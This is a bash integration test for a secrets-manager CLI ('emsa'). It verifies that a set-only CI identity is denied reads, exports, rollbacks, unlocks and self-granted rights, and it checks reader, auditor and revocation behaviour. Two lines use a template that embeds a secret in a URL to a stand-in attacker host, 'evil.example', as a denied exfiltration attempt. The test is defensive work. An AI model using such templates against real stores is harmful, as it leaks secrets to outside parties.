#!/bin/bash
# CI with the right to set and no other: a user of the machine without any right, and an identity that was granted --set. It
# sets; it does not read, refer to, unlock, roll back or grant anything, by no verb and no door; and what it has is of no use to
# another, elsewhere, or once it was taken away.
# shellcheck disable=SC2119,SC2317 # begin may be given nothing; functions are called by "ends"
# shellcheck source=../../support/lib.sh
. "$(dirname "$0")/../../support/lib.sh"
# shellcheck source=../daemon/daemon.sh
. "$root/tests/integration/daemon/daemon.sh"
# shellcheck source=../rights/machine.sh
. "$root/tests/integration/rights/machine.sh"

emsa init >/dev/null
emsa env add prod dev vault >/dev/null
emsa set prod/web PORT=8080 HOST=internal --new >/dev/null
printf 'Kx9#production-password' | emsa set prod/web/PASSWORD - --raw --secret >/dev/null
emsa set prod/db PORT=5432 --new >/dev/null
emsa set prod/web LOCKED=1 >/dev/null
emsa lock prod/web/LOCKED -m "it stays" >/dev/null
emsa set dev/web PORT=1 --new >/dev/null
emsa env add sealed --protected --signed >/dev/null

# identity NAME: its file, readable by the user ken alone
identity() {
    emsa identity new "$1" --out "$work/$1" >/dev/null
    chown 2012:2012 "$work/$1"
}
for name in ci reader auditor other; do
    identity "$name"
done
chmod 755 "$work"
public() {
    emsa identity export --public "$work/$1"
}
holds "CI may set" emsa grant prod sealed --to id:ci --key "$(public ci)" --set -m "CI"
holds "a reader" emsa grant prod/web --to id:reader --key "$(public reader)" --read
holds "an auditor" emsa grant / --to id:auditor --key "$(public auditor)" --audit
begin
is "a server" ready "$said"
as_ci() { # VERB...
    as ken emsa --sign "$work/ci" "$@"
}
denied() { # WHAT METHOD COMMAND...
    local what=$1 method=$2
    shift 2
    ends "$what" 1 "uid 2012 (ken), 'id:ci', has no right to $method" "$@"
}

# It sets, and that is signed.
ends "without the identity" 1 "uid 2012 (ken) has no right to Remove" as ken emsa rm prod/web/PORT
holds "sets" as_ci set prod/web PORT=8081
is "what was meant" 8081 "$(emsa get prod/web/PORT)"
is "by whom" "uid 2012 (ken)" "$(emsa --json log prod/web -n 1 | json commits 0 author)"
is "and signed" True "$(emsa --json log prod/web -n 1 | json commits 0 signer known)"
printf 'another-password' >"$work/password"
chmod 644 "$work/password"
holds "sets a secret" as_ci set prod/web --secret-file "PASSWORD=$work/password"
is "which is there" another-password "$(emsa get prod/web/PASSWORD --reveal)"
holds "by the environment" env EMSA_SIGN_IDENTITY="$work/ci" setpriv --reuid 2012 --regid 2012 --clear-groups emsa set prod/web PORT=8082
holds "where changes are signed" as_ci set sealed/web PORT=1 --new -m "first"
holds "removes" as_ci rm prod/web/HOST
holds "lists" as_ci ls prod/web
until emsa audit --who id:ci | grep -q "commit Remove"; do :; done
is "and is written down" "2012 id:ci" "$(emsa audit --who id:ci | grep -o '2012 id:ci' | sort -u)"

# And nothing else.
denied "get" Get as_ci get prod/web/PORT
denied "a secret" Get as_ci get prod/web/PASSWORD --reveal
denied "export" Get as_ci export prod/web
denied "export of all" Definitions as_ci export prod --format yaml
denied "exec" Get as_ci exec prod/web -- printenv
denied "explain" Explain as_ci explain prod/web/PORT
denied "diff" Diff as_ci diff prod/web prod/db
denied "log" Log as_ci log prod/web
denied "blame" Blame as_ci blame prod/web
denied "audit" Audit as_ci audit
denied "watch" Watch as_ci watch prod/web
mkdir "$work/mine"
chown 2012:2012 "$work/mine"
denied "a mount" Mount as_ci mount prod/web "$work/mine"
# shellcheck disable=SC2016 # templates
denied "a template that carries a secret out" Set as_ci set prod/web --template 'URL=https://evil.example/?x=${PASSWORD}'
# shellcheck disable=SC2016
denied "one of another's" Set as_ci set prod/web --template 'URL=https://evil.example/?x=${db/PORT}'
denied "a link" Set as_ci link prod/web/COPY web/PASSWORD
denied "a copy" Copy as_ci cp prod/web/PASSWORD prod/db/PASSWORD
denied "a move" Move as_ci mv prod/web/PASSWORD prod/db/PASSWORD
denied "sharing" Set as_ci share prod/web/PASSWORD --with db
denied "a rollback" Rollback as_ci rollback prod/web --to 3 -m "back"
denied "a promotion" Promote as_ci promote dev/web prod/web PORT
denied "unlocking" Set as_ci unlock prod/web/LOCKED
ends "what is locked" 4 "locked" as_ci set prod/web LOCKED=2
ends "an override" 1 "uid 2012 (ken), 'id:ci', has no right to" as_ci set prod/web LOCKED=2 --override lock -m "why not"
denied "rights for itself" Set as_ci grant prod --to id:ci --read
denied "new keys" Set as_ci rotate keys prod/web
ends "a value that is kept" 1 "uid 2012 (ken), 'id:ci', has no right to" as_ci rotate value prod/web/PASSWORD --generate 32 --keep-previous OLD
denied "another environment" Set as_ci set dev/web PORT=2
denied "the whole" Set as_ci set all/web PORT=2
denied "verify" Verify as_ci verify
denied "an end" Stop as_ci stop
is "nothing of it was done" 1 "$(emsa get prod/web/LOCKED)"

# Rights to read are the same.
as_reader() { as ken emsa --sign "$work/reader" "$@"; }
is "a reader" 8082 "$(as_reader get prod/web/PORT)"
is "of secrets" another-password "$(as_reader get prod/web/PASSWORD --reveal)"
is "as variables" 8082 "$(as_reader exec prod/web -- printenv PORT)"
ends "reads nothing else" 1 "has no right to Get" as_reader get prod/db/PORT
ends "and sets nothing" 1 "has no right to Set" as_reader set prod/web PORT=1
holds "an auditor" as ken emsa --sign "$work/auditor" log prod/web
holds "who verifies" as ken emsa --sign "$work/auditor" verify
ends "and reads nothing" 1 "has no right to Get" as ken emsa --sign "$work/auditor" get prod/web/PORT
as_reader watch prod/web >"$work/watched" 2>&1 &
watcher=$!
for ((i = 0; i < 1000; i++)); do
    emsa set prod/web "NEWS=$i" >/dev/null
    ! grep -q 'prod/web/NEWS' "$work/watched" || break
done
is "is told of changes" 1 "$(grep -c 'prod/web/NEWS' "$work/watched" | grep -c '[1-9]')"
kill "$watcher"
wait "$watcher" || true

# Whose it is not, and where it is not.
ends "an identity that nobody knows" 1 "of an identity that this store does not know, has no right" as ken emsa --sign "$work/other" get prod/web/PORT
ends "another's file" 1 "permission denied" as mallory emsa --sign "$work/ci" set prod/web PORT=1
ends "another store's id" 4 "EMSA_STORE_ID" as ken env EMSA_STORE_ID=00112233445566778899aabbccddeeff emsa --sign "$work/ci" set prod/web PORT=1
holds "this one's" as ken env EMSA_STORE_ID="$(emsa --json status | json id)" emsa --sign "$work/ci" set prod/web PORT=8083
cp "$root/tests/integration/rights/who.py" "$here/ci.py" "$work/"
holds "by hand" setpriv --reuid 2012 --regid 2012 --clear-groups /usr/bin/python3 -B "$work/ci.py" "$socket" "$work"

# While it is connected.
mkfifo "$work/to" "$work/from"
setpriv --reuid 2012 --regid 2012 --clear-groups /usr/bin/python3 -B "$work/ci.py" "$socket" "$work" held <"$work/to" >"$work/from" &
exec 7>"$work/to" 8<"$work/from"
said() {
    echo "$1" >&7
    read -r answer <&8
    echo "$answer"
}
is "one that is connected" "done" "$(said reader)"
emsa revoke prod/web --from id:reader --read --list >/dev/null 2>&1 || emsa revoke prod/web --from id:reader >/dev/null
is "has nothing once it was taken away" io.emsa.Denied "$(said reader)"
is "another still has" "done" "$(said auditor)"
kill -9 "$(process server)"
is "a server that ends takes the proof with it" gone "$(said auditor)"
exec 7>&- 8<&-
holds "the command proves it again" as_ci set prod/web PORT=8084
over TERM
holds "what was done is in order" emsa verify
finish
